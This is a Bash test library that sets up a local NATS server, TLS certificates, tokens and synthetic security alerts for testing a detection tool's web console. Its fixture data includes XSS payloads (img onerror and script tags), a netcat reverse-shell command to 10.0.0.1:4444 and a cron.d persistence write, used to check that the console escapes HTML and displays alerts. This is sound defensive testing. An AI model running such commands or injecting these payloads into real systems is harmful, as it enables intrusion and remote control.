# shellcheck shell=bash
# console_lib.sh: what the web console's tests share (test_console_api.sh,
# test_console_browser.sh): a nats-server (JetStream, loopback, port chosen by
# the server), a CA and a certificate for 127.0.0.1 made here, a viewer and a
# responder token, alerts published as nodes do (fleetgen --from: three of node-a
# in cluster prod, one of them with HTML and script in its command line and
# output, MITRE tags; 120 of 3 fleetgen nodes with heartbeats), and a hub that
# stored them all. Source after lib.sh; call cl_setup; cl_cleanup from the
# script's EXIT trap. Sets T, NATS, URL, VTOKEN, RTOKEN, GEN, XSS_RULE, HUB.

GEN=$BUILD/bench/fleetgen

cl_need() {
	it_need_vigil
	it_need_jq
	local t
	for t in nats-server openssl curl python3; do
		command -v "$t" >/dev/null 2>&1 || it_skip "$t is not installed (scripts/install-deps)"
	done
	[ -x "$GEN" ] || it_die "$GEN not built (make tests)"
}

cl_cleanup() {
	local p
	for p in $HUB $NATS_PID; do
		kill -TERM "$p" 2>/dev/null
		wait "$p" 2>/dev/null
	done
	it_cleanup_common
}

# cl_api PATH [CURL ARGS...]: GET with the viewer's token, verified against the test's CA
cl_api() {
	local p=$1
	shift
	curl -sS --cacert "$T/ca.pem" -H "Authorization: Bearer $VTOKEN" "$@" "$URL$p"
}

cl_setup() {
	it_mktemp
	T=$IT_TMP

	nats-server -js -a 127.0.0.1 -p -1 -sd "$T/js" >"$T/nats.log" 2>&1 &
	NATS_PID=$!
	NPORT=""
	for ((i = 0; i < 300; i++)); do
		NPORT=$(sed -n 's/.*Listening for client connections on 127.0.0.1:\([0-9]*\).*/\1/p' "$T/nats.log" 2>/dev/null)
		[ -n "$NPORT" ] && grep -q 'Server is ready' "$T/nats.log" && break
		kill -0 "$NATS_PID" 2>/dev/null || it_die "nats-server exited: $(cat "$T/nats.log")"
		sleep 0.1
	done
	[ -n "$NPORT" ] || it_die "nats-server did not start"
	NATS=nats://127.0.0.1:$NPORT
	"$VIGIL" fleet init --nats "$NATS" >/dev/null || it_die "cannot create the streams"

	# --- TLS: a CA of the test's own and the hub's certificate for 127.0.0.1 ---------
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$T/ca.key" -out "$T/ca.pem" \
		-days 1 -subj "/CN=vigil console test CA" >/dev/null 2>&1 || it_die "openssl: cannot make the CA"
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$T/hub.key" -out "$T/hub.csr" \
		-subj "/CN=127.0.0.1" >/dev/null 2>&1 || it_die "openssl: cannot make the key"
	printf 'subjectAltName=IP:127.0.0.1\n' >"$T/ext"
	openssl x509 -req -in "$T/hub.csr" -CA "$T/ca.pem" -CAkey "$T/ca.key" -CAcreateserial -days 1 \
		-extfile "$T/ext" -out "$T/hub.pem" >/dev/null 2>&1 || it_die "openssl: cannot sign the certificate"
	VTOKEN=$(openssl rand -hex 24)
	RTOKEN=$(openssl rand -hex 24)
	printf '%s viewer alice\n%s responder bob\n' "$VTOKEN" "$RTOKEN" >"$T/tokens"
	chmod 600 "$T/tokens"

	# --- alerts as a node sends them (Falco's shape plus Vigil's context) ----------------
	now=$(date -u +%s)
	iso() { date -u -d "@$1" +%Y-%m-%dT%H:%M:%S.000000000Z; }
	XSS_RULE="Console XSS probe"
	IMG='<img src=x onerror=\"window.__xss=1\">'
	SCR='<script>window.__xss=2</script>'
	CTR='"container":{"id":"c0ffee000001","full_id":"c0ffee000001aaaabbbbccccddddeeeeffff0000111122223333444455556666","runtime":"podman","name":"web-1","image":"registry.local/web:1.4","image_id":"sha256:1234","privileged":false,"metadata":true},"k8s":{"pod":"web-1-7d9f","namespace":"payments","pod_uid":"u-1","container":"web"}'
	alert() { # uuid time rule priority tags cmdline output responses
		printf '{"uuid":"%s","time":"%s","rule":"%s","priority":"%s","output":"%s","output_fields":{"proc.name":"sh","proc.cmdline":"%s"},"source":"syscall","tags":%s,"hostname":"node-a","vigil":{"event":{"type":"execve","process":{"pid":300,"name":"sh","exe":"/bin/sh","cmdline":"%s"},"parent":{"pid":200,"name":"bash","exe":"/bin/bash","cmdline":"bash -i"},"user":{"uid":0,"gid":0},%s},"ancestry":[{"pid":200,"name":"bash","exe":"/bin/bash","cmdline":"bash -i"},{"pid":100,"name":"containerd-shim","exe":"/usr/bin/containerd-shim","cmdline":"containerd-shim -namespace k8s.io"},{"pid":1,"name":"systemd","exe":"/usr/lib/systemd/systemd","cmdline":"/sbin/init"}],"actions":["isolate"],"suppressed_before":0,"responses":%s}}\n' \
			"$1" "$2" "$3" "$4" "$7" "$6" "$5" "$6" "$CTR" "$8"
	}
	{
		alert consolexss00000001 "$(iso $((now - 120)))" "$XSS_RULE" Critical '["container","mitre_execution","T1059.004"]' \
			"sh -c $IMG$SCR" "Shell in web-1: $IMG$SCR" '[{"action":"isolate","target":"c0ffee000001","outcome":"done","detail":"","path":"","latency_us":800}]'
		alert consoleshell0000002 "$(iso $((now - 60)))" "Console shell probe" Warning '["container","mitre_execution"]' \
			"sh -c id" "Shell in web-1 (sh -c id)" '[]'
		alert consolefile00000003 "$(iso $((now - 30)))" "Console file probe" Notice '["filesystem","mitre_persistence"]' \
			"touch /etc/cron.d/x" "File written below /etc" '[]'
	} >"$T/alerts.jsonl"
	alert consolelive00000004 "$(iso "$now")" "Console live probe" Critical '["container"]' "nc -e /bin/sh 10.0.0.1 4444" \
		"Reverse shell" '[]' >"$T/live.jsonl"
	printf '#!/bin/sh\nexec "%s" --nats "%s" --from "%s" --node node-a --cluster prod --seq-start 100\n' \
		"$PWD/$GEN" "$NATS" "$T/live.jsonl" >"$T/publish"
	chmod +x "$T/publish"
	"$GEN" --nats "$NATS" --from "$T/alerts.jsonl" --node node-a --cluster prod >/dev/null || it_die "cannot publish the alerts"
	"$GEN" --nats "$NATS" --cluster prod --prefix fleet --nodes 3 --alerts 40 --heartbeats 1 >/dev/null || it_die "fleetgen failed"

	# --- flow rollups as two nodes send them (docs/fleet.md, "Flows"): web-1 on node-a talks
	# to db-0 on node-b (each side reports it) and to an outside peer whose DNS name holds HTML
	minute=$((now - now % 60))
	wl_web='"workload":{"container_id":"c0ffee000001","container_name":"web-1","k8s_namespace":"payments","k8s_pod":"web-1-7d9f"}'
	wl_db='"workload":{"container_id":"d00d00000002","container_name":"db-0","k8s_namespace":"payments","k8s_pod":"db-0"}'
	peer() { printf '"peer":{"address":"%s","name":"%s","container_id":"","container_name":null,"k8s_namespace":null,"k8s_pod":null}' "$1" "$2"; }
	row() { # workload local direction port peer connections bytes_in bytes_out
		printf '{"minute":%s,%s,"local_addr":"%s","direction":"%s","proto":"tcp","port":%s,%s,"connections":%s,"bytes_in":%s,"bytes_out":%s,"packets_in":10,"packets_out":10}' \
			"$minute" "$1" "$2" "$3" "$4" "$5" "$6" "$7" "$8"
	}
	printf '{"uuid":"consoleflowsnodea01","time":"%s","flows":[%s,%s]}\n' "$(iso "$now")" \
		"$(row "$wl_web" 10.88.0.5 out 5432 "$(peer 10.88.0.6 "")" 40 900000 120000)" \
		"$(row "$wl_web" 10.88.0.5 out 443 "$(peer 203.0.113.7 '<img src=x onerror=\"window.__xss=3\">evil.example')" 3 100 5000)" \
		>"$T/flows-a.jsonl"
	printf '{"uuid":"consoleflowsnodeb01","time":"%s","flows":[%s]}\n' "$(iso "$now")" \
		"$(row "$wl_db" 10.88.0.6 in 5432 "$(peer 10.88.0.5 "")" 40 120000 900000)" >"$T/flows-b.jsonl"
	"$GEN" --nats "$NATS" --from "$T/flows-a.jsonl" --kind flows --node node-a --cluster prod >/dev/null ||
		it_die "cannot publish node-a's flows"
	"$GEN" --nats "$NATS" --from "$T/flows-b.jsonl" --kind flows --node node-b --cluster prod >/dev/null ||
		it_die "cannot publish node-b's flows"

	"$VIGIL" hub --nats "$NATS" --durable console$$ --store "$T/hub.db" --listen 127.0.0.1:0 --tls-cert "$T/hub.pem" \
		--tls-key "$T/hub.key" --token-file "$T/tokens" --silent-after 600 2>"$T/hub.log" &
	HUB=$!
	PORT=""
	for ((i = 0; i < 300; i++)); do
		PORT=$(sed -n 's/.*listening on port \([0-9]*\).*/\1/p' "$T/hub.log" 2>/dev/null)
		[ -n "$PORT" ] && break
		kill -0 "$HUB" 2>/dev/null || it_die "the hub exited: $(cat "$T/hub.log")"
		sleep 0.1
	done
	[ -n "$PORT" ] || it_die "the hub did not start"
	URL=https://127.0.0.1:$PORT

	for ((i = 0; i < 600; i++)); do
		n=$(cl_api /api/v1/status 2>/dev/null | jq -r '.stored.alerts' 2>/dev/null)
		[ "${n:-0}" -ge 123 ] && break
		sleep 0.1
	done
	[ "${n:-0}" -ge 123 ] || it_die "the hub stored ${n:-0} of 123 alerts: $(tail -5 "$T/hub.log")"
	echo "ok   the hub stored $n alerts from NATS"

}
